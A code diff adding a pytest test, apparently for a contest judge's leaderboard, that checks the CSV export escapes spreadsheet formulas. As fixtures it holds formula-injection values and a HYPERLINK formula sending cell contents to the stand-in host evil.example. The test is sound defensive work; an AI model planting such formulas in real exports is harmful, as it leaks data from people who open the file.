@@ -567,3 +567,16 @@ def test_each_case_has_its_own_overhead():
     assert leaderboard.speed_ratio(cases, reference, 1.0) == pytest.approx((1.0 + 2.9) / 2)  # one figure: too slow
     assert leaderboard.case_overhead({"a": 1.0, "b": 3.0, "c": 5.0}, "new") == 3.0
     assert leaderboard.case_overhead({}, "new") == 0.0
+
+
+def test_every_text_cell_of_the_csv_is_kept_from_being_a_formula():
+    """Red-team round 9: a worker's (or a hostile store's) sha256, times and test set went into the CSV raw."""
+    from judge.results import exports
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    entry = leaderboard.Entry(1, "a", "a.py", "@SUM(1)", Verdict.AC, 1, 1, 1, 1, None, "+1+1", formula, 1,
+                              graded_at="-2+3", test_set="\t=1")
+    rows = list(csv.DictReader(io.StringIO(exports.to_csv(leaderboard.Leaderboard("p", "P", TESTS, [entry], [],
+                                                                                   False)))))
+    for key in ("language", "submitted_at", "sha256", "graded_at", "test_set_hash"):
+        assert rows[0][key].startswith("'"), (key, rows[0][key])
